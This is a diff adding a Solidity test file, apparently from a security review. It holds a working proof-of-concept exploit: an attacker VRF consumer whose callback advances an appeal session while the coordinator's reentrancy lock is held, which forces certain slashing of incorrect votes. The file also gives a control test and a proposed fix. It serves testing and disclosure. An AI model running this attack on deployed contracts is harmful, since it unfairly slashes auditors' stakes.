@@ -1,0 +1,202 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity 0.8.28;
+
+import {AppealsFixture} from "../utils/AppealsFixture.sol";
+import {IAuditSessions} from "../../src/interfaces/IAuditSessions.sol";
+import {IRandomness} from "../../src/interfaces/IRandomness.sol";
+import {ISettlementModule} from "../../src/interfaces/ISettlementModule.sol";
+import {VRFRandomness} from "../../src/VRFRandomness.sol";
+import {IVRFCoordinatorV2Plus, VRFV2PlusClient} from "../../src/interfaces/IVRFCoordinatorV2Plus.sol";
+import {AppealModule} from "../../src/modules/AppealModule.sol";
+import {Vm} from "../utils/TestBase.sol";
+
+/// @dev The cheatcode TestBase's `Vm` does not declare.
+interface VmSkipReview8Refusal {
+    function skip(bool) external;
+}
+
+interface IVRFConsumerRaw {
+    function rawFulfillRandomWords(uint256 requestId, uint256[] calldata randomWords) external;
+}
+
+/// @notice The part of Chainlink's VRFCoordinatorV2_5 the attack uses, as upstream has it
+/// (smartcontractkit/chainlink-evm, contracts/src/v0.8/vrf/dev/VRFCoordinatorV2_5.sol): `requestRandomWords`
+/// is `nonReentrant` (`if (s_config.reentrancyLock) revert Reentrant()`), and `_deliverRandomness` sets
+/// `s_config.reentrancyLock = true` around the consumer's callback (`_callWithExactGas(callbackGasLimit, ...)`,
+/// whose failure does not revert the fulfilment). Any subscription owner's consumer gets such a callback.
+/// (The project's MockVRFCoordinator has no reentrancy lock.)
+contract ReentrancyLockedCoordinator is IVRFCoordinatorV2Plus {
+    struct Req {
+        address consumer;
+        uint32 callbackGasLimit;
+        uint16 confirmations;
+        uint256 blockNumber;
+    }
+
+    bool public reentrancyLock;
+    uint256 public nonce;
+    mapping(uint256 => Req) public requests;
+
+    error Reentrant();
+    error TooEarly(uint256 requestId);
+
+    function requestRandomWords(VRFV2PlusClient.RandomWordsRequest calldata req)
+        external
+        returns (uint256 requestId)
+    {
+        if (reentrancyLock) revert Reentrant();
+        requestId = uint256(keccak256(abi.encode(req.keyHash, msg.sender, ++nonce)));
+        requests[requestId] = Req(msg.sender, req.callbackGasLimit, req.requestConfirmations, block.number);
+    }
+
+    /// @notice The oracle's fulfilment (proof checking left out: the oracle is honest here).
+    function fulfill(uint256 requestId, uint256 seed) external returns (bool success) {
+        Req memory r = requests[requestId];
+        if (block.number < r.blockNumber + r.confirmations) revert TooEarly(requestId);
+        delete requests[requestId];
+        uint256[] memory words = new uint256[](1);
+        words[0] = uint256(keccak256(abi.encode(seed, 0)));
+        reentrancyLock = true;
+        (success,) = r.consumer.call{gas: r.callbackGasLimit}(
+            abi.encodeCall(IVRFConsumerRaw.rawFulfillRandomWords, (requestId, words))
+        );
+        reentrancyLock = false;
+    }
+}
+
+/// @notice The attacker: an ordinary VRF consumer on its own subscription whose callback pokes the session.
+contract PokeInCallback is IVRFConsumerRaw {
+    ReentrancyLockedCoordinator internal immutable coord;
+    AppealModule internal immutable appeals;
+    uint256 public target;
+
+    constructor(ReentrancyLockedCoordinator coord_, AppealModule appeals_) {
+        coord = coord_;
+        appeals = appeals_;
+    }
+
+    function arm(uint256 sessionId) external returns (uint256) {
+        target = sessionId;
+        return coord.requestRandomWords(
+            VRFV2PlusClient.RandomWordsRequest({
+                keyHash: keccak256("attacker lane"),
+                subId: 666,
+                requestConfirmations: 3,
+                callbackGasLimit: 2_000_000, // mainnet maxGasLimit is 2.5M
+                numWords: 1,
+                extraArgs: VRFV2PlusClient.argsToBytes(VRFV2PlusClient.ExtraArgsV1({nativePayment: false}))
+            })
+        );
+    }
+
+    function rawFulfillRandomWords(uint256, uint256[] calldata) external {
+        appeals.advance(target); // -> core.onOutcomeFinal -> VRFRandomness.request -> Reentrant()
+    }
+}
+
+/// @title Review8SlashSeedRefusalNotForcible (outside review 8 of main b23b820, slash coins; medium)
+/// @notice Property (docs/protocol-v2.md, "2. Slash coins": "whether the sentinel is recorded depends on the
+/// source alone"; `p_slash(r)`, between pMin and pMax by reputation, is the chance an incorrect vote is
+/// slashed): no outsider can make a working source refuse the slash-seed request. It can with the real
+/// VRF v2.5 coordinator: `requestRandomWords` is `nonReentrant`, and the coordinator holds its reentrancy
+/// lock during EVERY consumer's fulfilment callback. Anyone can own a subscription and a consumer; a consumer
+/// whose callback calls `AppealModule.advance(sid)` (or `AuditSessions.finalize`/`advance` without
+/// extensions) as the session's outcome becomes final makes `_onOutcomeFinal`'s `try request{gas: 500000}()`
+/// revert `Reentrant()` with plenty of gas; the core records `slashRequest = type(uint56).max` (no seed), and
+/// every incorrect vote of the session is slashed with certainty instead of with probability p_slash(r).
+/// The `gasleft()` floor does not help: the callback gets up to `maxGasLimit` (2.5M on mainnet).
+/// @dev Attack (a griefer, a competitor auditor, a provider punishing dissenters): request one VRF word with
+/// confirmations timed to land in the block the appeal windows close (or a few requests spread over the
+/// next blocks, each callback checking the session is not final yet), callback = `appeals.advance(sid)`.
+/// Cost: one VRF fulfilment (premium plus ~0.6M callback gas) per targeted block; one callback can advance
+/// every session ripe in that block. Measured (`scripts/forge test --match-path
+/// 'contracts/test/attacks/Review8SlashSeed*' -vv`, skip removed): 1 segment, 3 auditors, auditor 0 votes
+/// against the outcome; the attacker's callback makes the outcome final; slashRequest = 72057594037927935
+/// (no seed); settlement: 1 incorrect vote, 1 slash (certain; p_slash at r = 0.5 lies in [0.2, 0.5], so the
+/// expected slash is 2x to 5x what the protocol intends). Control: the same `advance` outside a callback
+/// records a real request.
+/// Fix proposal: record "no seed" only for a refusal that persists, never for one caused by the calling
+/// context: (a) `IRandomness.accepting(address requester) view` (VRF: `isRequester` and, at the coordinator,
+/// subscription exists and consumer active via `getSubscription`); on a failed try the core records the
+/// sentinel only if `!source.accepting(address(this))`, and otherwise reverts (`SlashRequestRetry`: nothing
+/// recorded, an honest keeper retries outside any callback); or (b) the adapter maps the coordinator's
+/// `Reentrant()` to a dedicated `SourceBusy()` error the core bubbles up instead of catching. Also give
+/// MockVRFCoordinator upstream's reentrancy lock so the fuzz/invariant suites see this path.
+contract Review8SlashSeedRefusalNotForcible is AppealsFixture {
+    ReentrancyLockedCoordinator internal coord;
+    VRFRandomness internal vrf;
+    PokeInCallback internal attacker;
+
+    event log_named_uint(string key, uint256 val);
+
+    function setUp() public {
+        _deployAppeals();
+        _addAuditors(1, 12, STAKE);
+        _nextEpoch();
+        coord = new ReentrancyLockedCoordinator();
+        VRFRandomness.Config memory c;
+        c.keyHash = keccak256("lane");
+        c.subscriptionId = 1;
+        c.requestConfirmations = 3;
+        c.callbackGasLimit = 60_000;
+        c.timeoutBlocks = 400;
+        vrf = new VRFRandomness(IVRFCoordinatorV2Plus(address(coord)), owner, c);
+        vm.startPrank(owner);
+        vrf.setRequester(address(sessions), true);
+        sessions.setRandomness(IRandomness(address(vrf)));
+        vm.stopPrank();
+        attacker = new PokeInCallback(coord, appeals);
+    }
+
+    /// @dev A voted session whose appeal windows close at the returned block; auditor 0 voted against.
+    function _votedSession() internal returns (uint256 sid, uint256 finalAt) {
+        sid = _open(_uniform(1, 1), FEE);
+        uint256 local = sessions.sessionOf(sid).drawRequest;
+        vm.roll(block.number + 3);
+        assertTrue(coord.fulfill(vrf.coordinatorRequestOf(local), 7), "draw value delivered");
+        _drawAll(sid);
+        _publish(sid);
+        _voteRound0(sid, 0, 1, 0); // auditor 0 votes FAIL, the other two PASS: PASS, 1 incorrect vote
+        finalAt = appeals.sessionAppeals(sid).lastWindowEnd + 1;
+    }
+
+    function _slashesOf(uint256 sid) internal returns (uint256 incorrect, uint256 slashes) {
+        vm.recordLogs();
+        settlement.settleBatch(sid, 0, _roundAuditors(sid, 0));
+        Vm.Log[] memory logs = vm.getRecordedLogs();
+        for (uint256 i = 0; i < logs.length; ++i) {
+            if (logs[i].topics[0] != ISettlementModule.AuditorSettled.selector) continue;
+            (,, uint256 inc,, uint256 sl,,,) = abi.decode(
+                logs[i].data, (uint256, uint256, uint256, uint256, uint256, uint256, uint256, uint256)
+            );
+            incorrect += inc;
+            slashes += sl;
+        }
+    }
+
+    function test_OutsiderCannotForceNoSlashSeed_KNOWN() public {
+        VmSkipReview8Refusal(address(vm)).skip(true);
+        (uint256 sid, uint256 finalAt) = _votedSession();
+        uint256 req = attacker.arm(sid);
+        if (block.number + 3 > finalAt) finalAt = block.number + 3;
+        vm.roll(finalAt); // the attacker's word lands as the windows close, before any keeper's advance
+        assertTrue(coord.fulfill(req, 1), "the attacker's callback succeeded");
+        uint256 slash = sessions.sessionOf(sid).slashRequest;
+        emit log_named_uint("slashRequest after the attacker's callback (2^56-1 = no seed)", slash);
+        (uint256 incorrect, uint256 slashes) = _slashesOf(sid);
+        emit log_named_uint("incorrect votes", incorrect);
+        emit log_named_uint("slashes", slashes);
+        assertTrue(slash != 0, "the callback made the outcome final");
+        assertTrue(slash != type(uint56).max, "Review8: an outsider's VRF callback forces 'no slash seed'");
+    }
+
+    /// @dev Control (holds): the same `advance` outside a callback records a real coordinator request.
+    function test_OutsideACallbackTheRequestIsReal() public {
+        (uint256 sid, uint256 finalAt) = _votedSession();
+        vm.roll(finalAt);
+        assertTrue(appeals.advance(sid), "outcome final");
+        uint256 slash = sessions.sessionOf(sid).slashRequest;
+        assertTrue(slash != 0 && slash != type(uint56).max, "a real request");
+        assertTrue(vrf.coordinatorRequestOf(slash) != 0, "at the coordinator");
+    }
+}
